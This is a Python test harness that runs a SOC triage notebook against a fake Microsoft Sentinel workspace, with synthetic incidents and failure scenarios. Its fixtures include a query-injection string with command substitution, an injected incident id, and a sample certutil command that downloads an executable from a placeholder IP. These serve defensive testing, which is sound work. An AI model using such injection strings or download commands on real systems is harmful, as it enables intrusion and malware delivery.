"""Runs the triage notebook's cells in one process, without a kernel, and says what came of it as JSON.

    python triage.py NOTEBOOK backlog DATA_DIR     all incidents of a folder
    python triage.py NOTEBOOK online SCENARIO      one incident, against a workspace that is played by a provider of ours

The provider stands where msticpy's MSSentinel provider does. It answers from rows given here, notes every query, and fails on
demand. Nothing reaches the network: the caller takes it away.
"""

import contextlib
import json
import os
import pathlib
import re
import sys
import tempfile

import matplotlib

matplotlib.use("Agg")
import IPython.display
import pandas as pd
from msticpy.data.core import data_providers

HOSTILE = 'web01" or 1==1 | project-away Computer //\n\\"); SecurityEvent | take 1 \u2028 \' \t`$(x)`'
TENANT, WORKSPACE = "11111111-2222-3333-4444-555555555555", "66666666-7777-8888-9999-000000000000"
AT = "2024-05-06T10:00:00Z"


def entities(host):
    return json.dumps([
        {"$id": "1", "Type": "host", "HostName": host, "NetBiosName": host},
        {"$id": "2", "Type": "account", "Name": "svc-backup", "Host": {"$ref": "1"}},
        {"$id": "3", "Type": "process", "CommandLine": "certutil -urlcache -f http://198.51.100.7/a.exe a.exe", "ProcessId": "0x10", "ImageFile": {"$id": "4", "Type": "file", "Name": "certutil.exe"}},
        {"$id": "5", "Type": "ip", "Address": "185.220.101.1"},
    ])


def tables(host):
    at = pd.Timestamp(AT)
    alert = {"TimeGenerated": at, "SystemAlertId": "a1", "AlertName": "Tool", "DisplayName": "Download by a tool", "Severity": "Medium", "AlertSeverity": "Medium",
             "Description": "certutil fetched a file", "ExtendedProperties": "{}", "Entities": entities(host), "StartTime": at, "StartTimeUtc": at, "ProductName": "Defender"}
    process = {"TenantId": TENANT, "Account": "CORP\\svc-backup", "EventID": 4688, "TimeGenerated": at, "Computer": host, "SubjectUserSid": "S-1", "SubjectUserName": "svc-backup",
               "SubjectDomainName": "CORP", "SubjectLogonId": "0x3", "NewProcessId": "0x10", "NewProcessName": "C:\\Windows\\System32\\certutil.exe", "TokenElevationType": "", "ProcessId": "0x9",
               "CommandLine": "certutil -urlcache -f http://198.51.100.7/a.exe a.exe", "ParentProcessName": "C:\\Windows\\System32\\cmd.exe", "TargetLogonId": "0x0"}
    failed = [{"TimeGenerated": at - pd.Timedelta(minutes=n), "Account": "CORP\\svc-backup", "EventID": 4625, "Computer": host, "LogonType": 3, "IpAddress": "185.220.101.1", "TargetUserName": "svc-backup"} for n in range(1, 13)]
    good = {**failed[0], "EventID": 4624, "TimeGenerated": at}
    return {
        "SecurityIncident": [{"IncidentName": "11112222-aaaa-bbbb-cccc-333344445555", "IncidentNumber": 7, "Title": "Download by a tool", "Description": "", "Severity": "Low", "Status": "New",
                              "CreatedTime": at, "FirstActivityTime": at, "LastActivityTime": at, "LastModifiedTime": at, "AlertIds": '["a1"]'}],
        "SecurityAlert": [alert],
        "related": [{"IncidentName": "99992222-aaaa-bbbb-cccc-333344445555", "IncidentNumber": 6, "Title": "Earlier", "Severity": "High", "Shared": [host.lower() + " svc-backup 185.220.101.1"]}],
        "SecurityEvent4688": [process],
        "SecurityEvent4624": [*failed, good],
        "SecurityEvent1102": [{"TimeGenerated": at, "Computer": host, "EventID": 1102, "Activity": "1102 - cleared", "Account": "CORP\\svc-backup", "Process": "", "Object": "", "Detail": "", "IpAddress": ""}],
        "SigninLogs": [],
    }


class Workspace:
    """Stands for `msticpy.QueryProvider("MSSentinel")`."""

    queries, connected, failing, unreachable, host, related = [], [], (), "", "web01", 1

    def __init__(self, environment, **_):
        assert environment == "MSSentinel", environment

    def connect(self, *arguments, **keywords):
        Workspace.connected.append({**keywords, "credential": [type(one).__name__ for one in keywords["credential"].credentials]})
        if Workspace.unreachable:
            raise ConnectionError(Workspace.unreachable)
        print("connected")

    def exec_query(self, query, **_):
        Workspace.queries.append(query)
        name = query.split(None, 1)[0]
        if name in Workspace.failing:
            raise RuntimeError(f"'where' operator: Failed to resolve table or column expression named '{name}'")
        if name == "SecurityAlert" and "join" in query:
            name = "related"
        elif name == "SecurityEvent":
            name += "4688" if "4688" in query else "4624" if "4624" in query else "1102"
        rows = tables(Workspace.host).get(name, [])
        return pd.DataFrame(rows * Workspace.related if name == "related" else rows)


def bundle(host):
    rows = tables(host)
    kinds = {"host": ("Host", "HostName", "hostName"), "account": ("Account", "Name", "accountName"), "ip": ("Ip", "Address", "address"), "process": ("Process", "CommandLine", "commandLine")}
    listed = [{"kind": kinds[e["Type"]][0], "properties": {kinds[e["Type"]][2]: e[kinds[e["Type"]][1]]}} for e in json.loads(entities(host))]
    properties = {"title": rows["SecurityIncident"][0]["Title"], "severity": "Low", "status": "New", "incidentNumber": 7, "firstActivityTimeUtc": AT, "lastActivityTimeUtc": AT, "createdTimeUtc": AT}
    return {"incident": {"name": "11112222-aaaa-bbbb-cccc-333344445555", "properties": properties}, "entities": {"entities": listed},
            "alerts": {"value": [{"properties": {"systemAlertId": "a1", "alertDisplayName": "Download by a tool", "startTimeUtc": AT}}]}}


def run(notebook, parameters):
    shown = []
    show = lambda thing, **_: shown.append(thing)
    IPython.display.display = IPython.display.update_display = show
    import matplotlib.pyplot as plt

    plt.show = lambda *_: plt.close("all")
    names = {"__name__": "__main__"}
    for cell in json.load(open(notebook, encoding="utf-8"))["cells"]:
        if cell["cell_type"] == "code":
            exec(compile("".join(cell["source"]), cell["id"], "exec"), names)
            if "parameters" in cell["metadata"].get("tags", []):
                names.update(parameters)
    return shown


def skeleton(query):
    """The query without what its literals hold: what is left is what the workspace takes for code."""
    return re.sub(r'@?"(?:[^"\\\n]|\\[^\n])*"', '""', query)


def verdicts_in(shown):
    return [thing["application/vnd.rnbexec.verdict+json"] for thing in shown if "application/vnd.rnbexec.verdict+json" in thing]


def backlog(notebook, data_dir):
    bundles = []
    for path in sorted(pathlib.Path(data_dir).glob("incident*.json")):
        content = json.loads(path.read_text(encoding="utf-8"))
        listed = content if isinstance(content, list) else [content]
        bundles += [one.get("incident", one) for one in listed if "properties" in one.get("incident", one)]
    answers = []
    for incident in bundles:
        shown = run(notebook, {"incident_id": incident["name"], "data_dir": data_dir})
        pages = "\n".join(thing.get("text/html", "") for thing in shown)
        answers.append({"number": incident["properties"]["incidentNumber"], "said": incident["properties"]["severity"], "verdicts": verdicts_in(shown), "page": pages})
    print(json.dumps(answers))


def online(notebook, scenario):
    data_providers.QueryProvider = Workspace
    parameters = {"incident_id": "11112222-AAAA-bbbb-cccc-333344445555", "ten_id": TENANT, "ws_id": WORKSPACE, "budget_seconds": 60.0}
    with contextlib.ExitStack() as stack:
        os.chdir(stack.enter_context(tempfile.TemporaryDirectory()))
        if scenario == "hostile":
            Workspace.host = HOSTILE
        elif scenario == "missing-tables":
            Workspace.failing = ("SecurityEvent", "DeviceProcessEvents", "SigninLogs", "SecurityAlert")
        elif scenario in ("unreachable", "unreachable-and-quiet"):
            Workspace.unreachable = "no credential of cli, msi could be used"
        elif scenario == "no-time":
            parameters["budget_seconds"] = 0.0
        elif scenario == "too-much":
            Workspace.related = 50
        if scenario in ("missing-tables", "unreachable", "unreachable-and-quiet", "no-time", "hostile-bundle", "too-much", "called-a-test"):
            if scenario == "hostile-bundle":
                Workspace.host = HOSTILE
                parameters["incident_id"] = '7" or true //'
            made = bundle(Workspace.host)
            if scenario == "unreachable-and-quiet":
                made["entities"]["entities"] = made["entities"]["entities"][:1]
            elif scenario == "too-much":
                made["entities"]["entities"] += [{"kind": "Host", "properties": {"hostName": f"web{n:03}"}} for n in range(120)]
            elif scenario == "called-a-test":
                made["incident"]["properties"]["description"] = "This is a test alert: no further action is needed."
            json.dump(made, open("bundle.json", "w", encoding="utf-8"))
            parameters["incident_bundle"] = "bundle.json"
        shown = run(notebook, parameters)
    pages = "\n".join(thing.get("text/html", "") for thing in shown)
    print(json.dumps({
        "verdicts": verdicts_in(shown), "page": pages, "connected": Workspace.connected,
        "queries": Workspace.queries, "skeletons": [skeleton(query) for query in Workspace.queries],
    }, default=str))


{"backlog": backlog, "online": online}[sys.argv[2]](sys.argv[1], sys.argv[3])
